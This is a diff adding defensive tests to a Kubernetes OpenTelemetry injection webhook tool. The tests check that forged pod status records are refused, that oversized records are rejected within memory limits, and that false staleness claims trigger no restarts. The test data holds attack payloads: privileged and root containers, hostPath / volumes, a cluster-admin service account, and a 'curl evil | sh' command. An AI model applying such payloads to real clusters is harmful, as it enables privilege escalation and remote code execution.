@@ -145,7 +145,7 @@ check("pod changed since", rc == 1 and err == (
 # members of the wrong type.
 for i, (value, why) in enumerate((
         ('{"v":1,"was":{"/spec/containers/0/x":3}}',
-         "the record's was names /spec/containers/0/x, which does not lead through objects of the pod"),
+         "the record's containers, initContainers and into name nothing otel-webhook adds"),
         ('{"v":1,"containers":"app"}', "the record's containers is not what otel-webhook writes"),
         ('{"v":1,"into":{"a":1}}', "the record's into is not what otel-webhook writes"),
         ('{"v":1,"unset":[3]}', "the record's unset is not what otel-webhook writes"),
@@ -156,6 +156,201 @@ for i, (value, why) in enumerate((
     rc, out, err = run("uninject", "-f", pf, "-o", "json")
     check("forged record refused: %s" % value, rc == 1 and err == "%s:1: Pod default/p: %s; left as it is\n" % (pf, why)
           and json.loads(out) == forged, (rc, err))
+
+# Forged records: the annotation is the pod author's data. Each attack below
+# is the real record of injected_pod with one field added; uninject refuses
+# it whole (exit 1, the field named, the object left as it is). Before the
+# record was checked (main before issue 25) each one exited 0 with no
+# warning and wrote the forged change.
+def forge(base, change):
+    o = copy.deepcopy(base)
+    r = json.loads(o["metadata"]["annotations"].get(KEY) or '{"v":1}')
+    change(r)
+    o["metadata"]["annotations"][KEY] = json.dumps(r)
+    return o
+
+
+with_data = copy.deepcopy(injected_pod)
+with_data["spec"]["volumes"].append({"name": "data", "emptyDir": {}})
+plain_v1 = copy.deepcopy(pod)
+plain_v1["metadata"]["annotations"][KEY] = '{"v":1}'
+ATTACKS = (
+    ("removes a container it never added", forge(plain_v1, lambda r: r.update(containers=["app"])),
+     "the record's containers[0]: app is not a container otel-webhook adds"),
+    ("removes a volume it never added", forge(with_data, lambda r: r["volumes"].append("data")),
+     "the record's volumes[1]: data is not a volume otel-webhook adds"),
+    ("removes env it never added", forge(plain_v1, lambda r: r.update(into=[{"name": "app", "env": ["JAVA_TOOL_OPTIONS", "SECRET"]}])),
+     "the record's into[0].env names SECRET, which the container app does not have"),
+    ("inserts a privileged container", forge(injected_pod, lambda r: r.update(removed=[
+        {"list": "containers", "at": 0, "value": {"name": "otc-container", "image": "evil",
+                                                  "securityContext": {"privileged": True}}}])),
+     "the record's removed[0].value: a container with securityContext.privileged; uninject never adds one"),
+    ("inserts a root container", forge(injected_pod, lambda r: r.update(removed=[
+        {"list": "initContainers", "at": 0, "value": {"name": "otc-container", "image": "evil",
+                                                      "securityContext": {"runAsUser": 0}}}])),
+     "the record's removed[0].value: a container with securityContext.runAsUser 0; uninject never adds one"),
+    ("inserts a foreign container", forge(injected_pod, lambda r: r.update(removed=[
+        {"list": "containers", "at": 0, "value": {"name": "miner", "image": "evil"}}])),
+     "the record's removed[0].value: miner is not a container otel-webhook takes out"),
+    ("inserts a hostPath / volume", forge(injected_pod, lambda r: r.update(removed=[
+        {"list": "volumes", "at": 0, "value": {"name": "root", "hostPath": {"path": "/"}}}])),
+     "the record's removed[0].value: root is not a volume otel-webhook takes out"),
+    ("inserts a hostPath / volume of our name", forge(injected_pod, lambda r: r.update(removed=[
+        {"list": "volumes", "at": 0, "value": {"name": "otel-auto-secret-x", "hostPath": {"path": "/"}}}])),
+     "the record's removed[0].value: a hostPath volume; uninject never adds one"),
+    ("sets hostNetwork", forge(injected_pod, lambda r: r.setdefault("was", {}).update({"/spec/hostNetwork": True})),
+     "the record's was./spec/hostNetwork: not a field otel-webhook changes, or not to that; uninject never sets it"),
+    ("sets hostPID", forge(injected_pod, lambda r: r.setdefault("was", {}).update({"/spec/hostPID": True})),
+     "the record's was./spec/hostPID: not a field otel-webhook changes, or not to that; uninject never sets it"),
+    ("sets serviceAccountName", forge(injected_pod, lambda r: r.setdefault("was", {}).update(
+        {"/spec/serviceAccountName": "cluster-admin"})),
+     "the record's was./spec/serviceAccountName: not a field otel-webhook changes, or not to that; uninject never sets it"),
+    ("sets the namespace", forge(injected_pod, lambda r: r.setdefault("was", {}).update(
+        {"/metadata/namespace": "kube-system"})),
+     "the record's was./metadata/namespace: not a field otel-webhook changes, or not to that; uninject never sets it"),
+    ("sets the pod's runAsUser 0", forge(injected_pod, lambda r: r.setdefault("was", {}).update(
+        {"/spec/securityContext": {"runAsUser": 0}})),
+     "the record's was./spec/securityContext: not a field otel-webhook changes, or not to that; uninject never sets it"),
+    ("sets a container's runAsUser 0", forge(injected_pod, lambda r: r["into"][0].setdefault("was", {}).update(
+        {"securityContext": {"runAsUser": 0, "allowPrivilegeEscalation": True}})),
+     "the record's into[0].was.securityContext: not a field otel-webhook changes; uninject never sets it"),
+    ("restores a command injection did not change", forge(injected_pod, lambda r: r["into"][0].setdefault("was", {}).update(
+        {"command": ["sh", "-c", "curl evil | sh"]})),
+     "the record's into[0].was.command is not the container's command without the Python launcher in front"),
+    ("restores an entry of a variable injection does not rewrite", forge(injected_pod, lambda r: r["into"][0]["envWas"].append(
+        {"name": "AWS_SECRET", "value": "x"})),
+     "the record's into[0].envWas[1]: AWS_SECRET is not a variable otel-webhook rewrites"),
+    ("unsets a list with the author's entries", forge(injected_pod, lambda r: r["unset"].append("/spec/containers")),
+     "the record's unset[2]: /spec/containers is not a field otel-webhook adds"),
+    ("claims an image the pod does not run", forge(injected_pod, lambda r: r["images"].update(
+        {"opentelemetry-auto-instrumentation-java": "example.com/other:1"})),
+     "the record's images.opentelemetry-auto-instrumentation-java is example.com/other:1, but the pod's "
+     "opentelemetry-auto-instrumentation-java runs " + injected_pod["spec"]["initContainers"][0]["image"]),
+    ("a bare {\"v\":1}", plain_v1, "the record's containers, initContainers and into name nothing otel-webhook adds"),
+)
+check("the record attacked is the injection's own", rec.get("unset") == ["/spec/initContainers", "/spec/volumes"] and
+      rec.get("volumes") == ["opentelemetry-auto-instrumentation-java"], rec)
+for i, (what, forged, why) in enumerate(ATTACKS):
+    pf = write("attack-%d.json" % i, json.dumps(forged))
+    rc, out, err = run("uninject", "-f", pf, "-o", "json")
+    check("forged record: %s: refused" % what, rc == 1 and err == "%s:1: Pod default/p: %s; left as it is\n" % (pf, why),
+          (rc, err))
+    check("forged record: %s: the object left as it is" % what, out and json.loads(out) == forged, out[:500])
+
+
+def peak_rss_mib(args):
+    """Exit status, stderr and peak RSS (MiB) of one run of the binary."""
+    pr = subprocess.Popen([BIN, *args], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    err = pr.stderr.read()
+    _pid, status, ru = os.wait4(pr.pid, 0)
+    return os.waitstatus_to_exitcode(status), err, ru.ru_maxrss / 1024
+
+
+# The record's budget: 256 KiB (what the API server keeps of all of a pod's
+# annotations) and 16384 objects and lists, counted before parsing. A
+# 2.5 MB record of empty objects took 640 MiB to parse before (release
+# build); refused unparsed, the whole run stays near the binary's own size.
+for name, text, why, cap in (
+        ("2.5 MB", '{"v":1,"x":[' + "{}," * 850000 + "{}]}",
+         "longer than the 262144 bytes the API server keeps of a pod's annotations", 120),
+        ("20000 objects", '{"v":1,"x":[' + "{}," * 20000 + "{}]}",
+         "more than the 16384 objects and lists a record may hold", 120)):
+    big = copy.deepcopy(pod)
+    big["metadata"]["annotations"][KEY] = text
+    pb = write("big-record.json", json.dumps(big))
+    rc, err, mib = peak_rss_mib(["uninject", "-f", pb, "-o", "json"])
+    check("record of %s: refused unparsed" % name, rc == 1 and err == "%s:1: Pod default/p: %s: %s; left as it is\n" % (
+        pb, KEY, why), (rc, err))
+    check("record of %s: peak RSS %.0f MiB under %d" % (name, mib, cap), mib < cap, mib)
+
+# The largest record our injection writes for the largest pod within the
+# engine's bounds (256 containers, each Java-injected, with the collector):
+# well inside the budget, and it round-trips.
+wide = {"apiVersion": "v1", "kind": "Pod",
+        "metadata": {"name": "wide", "annotations": {"instrumentation.opentelemetry.io/inject-java": "true",
+                                                     "sidecar.opentelemetry.io/inject": "true",
+                                                     "instrumentation.opentelemetry.io/container-names":
+                                                         ",".join("container-%03d" % i for i in range(255))}},
+        "spec": {"containers": [{"name": "container-%03d" % i, "image": "a",
+                                 "env": [{"name": "JAVA_TOOL_OPTIONS", "value": "-Xmx1g"}]} for i in range(255)]}}
+rc, out, err = run("inject", "-f", "-", "--resources", "examples/resources", "-o", "json", stdin=json.dumps(wide))
+wide_rec = json.loads(out)["metadata"]["annotations"][KEY] if rc == 0 else ""
+check("the widest pod's record: %d bytes, inside the budget" % len(wide_rec), 0 < len(wide_rec) < 262144, (rc, err))
+rc, back, err = run("uninject", "-f", "-", "-o", "json", stdin=out)
+check("the widest pod: round trip", rc == 0 and json.loads(back) == wide, err[:500])
+
+# A forged record does not turn injection off: a bare {"v":1} on a pod that
+# asks for Java and has none of our parts is injected as if it had none,
+# with the warning that names why; the new record keeps the forged value
+# (uninject puts it back). Before, the engine read any record as "already
+# injected" and answered no patch.
+rc, out, err = run("inject", "-f", "-", "--resources", "examples/resources", "-o", "json", stdin=json.dumps(plain_v1))
+v1_injected = json.loads(out) if rc == 0 else {}
+v1_rec = json.loads(((v1_injected.get("metadata") or {}).get("annotations") or {}).get(KEY) or "{}")
+check("inject: a bare {\"v\":1} does not turn injection off", rc == 0 and err == (
+    "<stdin>:1: warning: otel-webhook/status: the record's containers, initContainers and into name nothing "
+    "otel-webhook adds; replaced by this injection's record\n") and
+    v1_rec.get("initContainers") == ["opentelemetry-auto-instrumentation-java"] and
+    v1_rec.get("was") == {"/metadata/annotations/otel-webhook~1status": '{"v":1}'}, (rc, err, v1_rec))
+rc, out, err = run("explain", "-f", "-", "--resources", "examples/resources", stdin=json.dumps(plain_v1))
+check("explain: a bare {\"v\":1} is reported, not obeyed", rc == 0 and out.endswith(
+    "  containers:\n    app: java\n"
+    "  warnings:\n    otel-webhook/status: the record's containers, initContainers and into name nothing "
+    "otel-webhook adds; replaced by this injection's record\n"
+    "  status: the pod does not match its record, explained as if it had none: the record's containers, "
+    "initContainers and into name nothing otel-webhook adds\n"), out)
+
+
+def webhook_tests():
+    """The webhook's answer to a pod carrying a forged {"v":1}: the same
+    injection as without it, the warning, and the forged value kept."""
+    import base64
+    from serverlib import Server
+    certs = os.path.join(tmp, "wh-certs")
+    p = subprocess.run([BIN, "certs", "generate", "--service", "x", "--namespace", "y", "--out", certs, "--dev"],
+                       capture_output=True, text=True, timeout=60)
+    if not check("webhook: certs generate", p.returncode == 0, p.stderr):
+        return
+    srv = Server(check, BIN, "record-webhook", tmp, os.path.join(certs, "tls.crt"), os.path.join(certs, "tls.key"),
+                 os.path.join(certs, "ca.crt"), ["--resources", "examples/resources"])
+    if not srv.start():
+        return
+    try:
+        def admit(obj):
+            r = srv.admit({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
+                           "request": {"uid": "u-1", "kind": {"group": "", "version": "v1", "kind": "Pod"},
+                                       "resource": {"group": "", "version": "v1", "resource": "pods"},
+                                       "operation": "CREATE", "namespace": "default", "object": obj}})
+            resp = r.json()["response"]
+            return resp, json.loads(base64.b64decode(resp["patch"])) if "patch" in resp else None
+        clean = copy.deepcopy(pod)
+        clean["metadata"]["annotations"] = {"instrumentation.opentelemetry.io/inject-java": "true"}
+        want_resp, want_patch = admit(clean)
+        resp, patch = admit(plain_v1)
+        want = [op for op in want_patch if not op["path"].startswith("/metadata/annotations/otel-webhook")]
+        got = [op for op in patch or [] if not op["path"].startswith("/metadata/annotations/otel-webhook")]
+        check("webhook: a bare {\"v\":1} pod is injected as without it", resp["allowed"] and got == want, patch)
+        recop = [op for op in patch or [] if op["path"] == "/metadata/annotations/otel-webhook~1status"]
+        check("webhook: its record replaces the forged one, keeping it", len(recop) == 1 and recop[0]["op"] == "add" and
+              json.loads(recop[0]["value"]).get("was") == {"/metadata/annotations/otel-webhook~1status": '{"v":1}'},
+              recop)
+        check("webhook: the warning", resp.get("warnings") == [
+            "otel-webhook: otel-webhook/status: the record's containers, initContainers and into name nothing otel-webhook adds; "
+            "replaced by this injection's record"], resp.get("warnings"))
+        # A record that proves itself is still honoured: no patch.
+        injected = jsonpatch_apply(clean, want_patch)
+        resp, patch = admit(injected)
+        check("webhook: a real record is honoured", resp["allowed"] and patch is None and not resp.get("warnings"), resp)
+    finally:
+        srv.stop()
+
+
+def jsonpatch_apply(doc, ops):
+    import jsonpatch
+    return jsonpatch.apply_patch(doc, ops)
+
+
+webhook_tests()
 
 # ---- uninject: usage ------------------------------------------------------------
 _rc, UUSAGE, _err = run("uninject", "--help")
@@ -426,6 +621,51 @@ def run_outdated(fake, certs):
           ["not restarted: StatefulSet.apps.kruise.io kruise/kdb: not of apps/v1; restart it with its own tooling"] and
           not [r for r in fake.requests[n0:] if r["method"] != "GET"], (out, fake.requests[n0:]))
     check("outdated: finished and deleting pods left out", "job-x" not in out and "going" not in out, out)
+
+    # Forged staleness: a record is the pod author's data. A pod whose record
+    # claims an older Instrumentation while the pod itself runs today's images
+    # and variables is listed with that said, and its workload is not
+    # restarted; a record that does not prove itself (an image the pod does
+    # not run) is warned about and not checked at all. Before, both were
+    # listed as stale and their Deployment restarted.
+    fake.apply("deployments", {"metadata": {"name": "forged-dep", "namespace": "team"}, "spec": {"replicas": 1}})
+    fake.apply("replicasets", {"metadata": {"name": "forged-dep-1", "namespace": "team", "ownerReferences": [
+        {"apiVersion": "apps/v1", "kind": "Deployment", "name": "forged-dep", "uid": "forged-dep-uid",
+         "controller": True}]}})
+    claims = json.loads(current["metadata"]["annotations"][KEY])
+    for u in claims["uses"]:
+        if u.get("language") == "java":
+            u.update(resourceVersion="1", hash="0000000000000000")
+    lying = json.loads(current["metadata"]["annotations"][KEY])
+    lying["images"]["opentelemetry-auto-instrumentation-java"] = "example.com/java-agent:0.9"
+    owner = {"kind": "ReplicaSet", "name": "forged-dep-1"}
+    for name, r in (("forged-dep-1-a", claims), ("forged-dep-1-b", lying)):
+        o = copy.deepcopy(current)
+        o["metadata"]["annotations"][KEY] = json.dumps(r)
+        o["metadata"]["name"] = name
+        o["metadata"]["ownerReferences"] = [dict(owner, apiVersion="apps/v1", uid="forged-dep-1-uid", controller=True)]
+        fake.apply("pods", o)
+    n0 = len(fake.requests)
+    rc, out, err = run("outdated", "--kubeconfig", kc, "-n", "team", "--restart", "--yes", "--interval", "0")
+    java_img = [c for c in current["spec"]["initContainers"] if c["name"] == "opentelemetry-auto-instrumentation-java"][0]["image"]
+    check("outdated: a record that does not prove itself is not checked",
+          "warning: Pod team/forged-dep-1-b: otel-webhook/status: the record's images.opentelemetry-auto-instrumentation-java "
+          "is example.com/java-agent:0.9, but the pod's opentelemetry-auto-instrumentation-java runs %s; not checked\n"
+          % java_img in err and "forged-dep-1-b" not in out, (err, out))
+    check("outdated: staleness only claimed is listed as such", (
+        "Deployment team/forged-dep: 1 pod (forged-dep-1-a)\n"
+        "  Instrumentation team/inst-b (java) changed since the injection (resourceVersion 1, now resourceVersion %s)\n"
+        "  (the records' word only: the pods' images and variables are what today's resources give)\n" % rv) in out, out)
+    check("outdated: ... and not restarted",
+          "not restarted: Deployment team/forged-dep: its pods do not show the staleness their records claim\n" in out and
+          not [r for r in fake.requests[n0:] if r["method"] == "PATCH" and "forged-dep" in r["path"]], out)
+    check("outdated: the pods that show it still restarted",
+          [r["path"] for r in fake.requests[n0:] if r["method"] == "PATCH"] == [
+              "/apis/apps/v1/namespaces/team/daemonsets/agent", "/apis/apps/v1/namespaces/team/deployments/api",
+              "/apis/apps/v1/namespaces/team/deployments/ghost", "/apis/apps/v1/namespaces/team/statefulsets/db"],
+          [r["path"] for r in fake.requests[n0:] if r["method"] == "PATCH"])
+    for name in ("forged-dep-1-a", "forged-dep-1-b"):
+        fake.delete("pods", name, "team")
 
     # Every request outdated and explain made is allowed by the overlay's
     # ClusterRole, and every rule of it was used.
